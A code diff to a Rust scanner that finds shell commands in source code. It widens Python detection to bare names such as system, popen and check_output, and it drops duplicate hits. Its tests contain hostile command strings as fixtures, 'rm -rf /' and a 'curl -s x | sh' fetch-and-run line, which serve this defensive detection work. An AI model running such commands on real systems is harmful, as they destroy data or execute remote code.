@@ -160,6 +160,15 @@ fn shell_call_names(lang: &str) -> &'static [&'static str] {
             "os.spawnvp",
             "pty.spawn",
             "commands.getoutput",
+            // However the module was reached (`__import__("os").system`,
+            // `from os import system`), these names only ever run a shell.
+            "system",
+            "popen",
+            "Popen",
+            "check_output",
+            "check_call",
+            "getoutput",
+            "getstatusoutput",
         ],
         "perl" => &["system", "exec", "qx"],
         "ruby" => &[
@@ -213,7 +222,8 @@ pub(crate) fn shell_strings(code: &Code) -> Vec<(String, String)> {
             let before = text[..at].chars().next_back();
             // Python names carry their module (`os.system`); elsewhere a
             // method call (`cp.execSync`, `Kernel.system`) is still a call.
-            let dotted_ok = code.lang != "python" || name.contains('.');
+            let dotted_ok =
+                code.lang != "python" || name.contains('.') || !matches!(*name, "run" | "call");
             if before
                 .is_some_and(|c| c.is_ascii_alphanumeric() || c == '_' || (c == '.' && !dotted_ok))
             {
@@ -221,7 +231,11 @@ pub(crate) fn shell_strings(code: &Code) -> Vec<(String, String)> {
             }
             let rest = &text[from..];
             if let Some(script) = call_argument_script(rest) {
-                out.push((label.clone(), script));
+                // `os.system(...)` is found as `os.system` and as `system`.
+                let found = (label.clone(), script);
+                if !out.contains(&found) {
+                    out.push(found);
+                }
             }
         }
     }
@@ -365,6 +379,19 @@ mod tests {
             "import subprocess; subprocess.run(['sh', '-c', 'rm -rf /'])",
         );
         assert_eq!(shell_strings(&c)[0].1, "'sh' '-c' 'rm -rf /'");
+    }
+
+    #[test]
+    fn python_shell_outs_are_found_however_os_is_reached() {
+        let c = code("python", "__import__('os').system('curl -s x | sh')");
+        assert_eq!(shell_strings(&c)[0].1, "curl -s x | sh");
+        let c = code(
+            "python",
+            "from subprocess import check_output; check_output('id', shell=True)",
+        );
+        assert_eq!(shell_strings(&c)[0].1, "id");
+        let c = code("python", "app.run('0.0.0.0')");
+        assert!(shell_strings(&c).is_empty());
     }
 
     #[test]
